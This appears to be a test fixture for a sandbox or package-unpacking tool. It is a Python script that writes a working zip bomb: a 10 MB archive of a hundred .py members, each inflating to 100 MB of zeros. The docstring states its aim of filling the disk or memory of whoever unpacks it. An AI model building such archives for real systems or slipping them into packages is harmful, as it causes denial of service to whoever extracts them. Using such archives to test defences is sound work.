"""Ten gigabytes in ten megabytes: a hundred members of a hundred megabytes of zeros each.

goal: fill the disk or the memory of whoever unpacks it
out: * failed unreadable
holds: namespaces landlock seccomp process
"""

import struct
import zlib
from pathlib import Path

MEMBERS, SIZE = 100, 100 << 20
LOCAL = struct.Struct("<IHHHHHIIIHH")
CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")
END = struct.Struct("<IHHHHIIH")


def build(folder: Path) -> Path:
    packer, block = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(1 << 20)
    data, check = b"", 0
    for _ in range(SIZE >> 20):
        data += packer.compress(block)
        check = zlib.crc32(block, check)
    data += packer.flush()
    path = folder / "package-zip-bomb.zip"
    index = b""
    with path.open("wb") as file:
        for number in range(MEMBERS):
            name = b"vectors.py" if number == 0 else b"%d.py" % number
            facts = (8, 0, 33, check, len(data), SIZE, len(name), 0)
            index += CENTRAL.pack(0x02014B50, 20, 20, 0, *facts, 0, 0, 0, 0, file.tell()) + name
            file.write(LOCAL.pack(0x04034B50, 20, 0, *facts) + name + data)
        at = file.tell()
        file.write(index + END.pack(0x06054B50, 0, 0, MEMBERS, MEMBERS, len(index), at, 0))
    return path
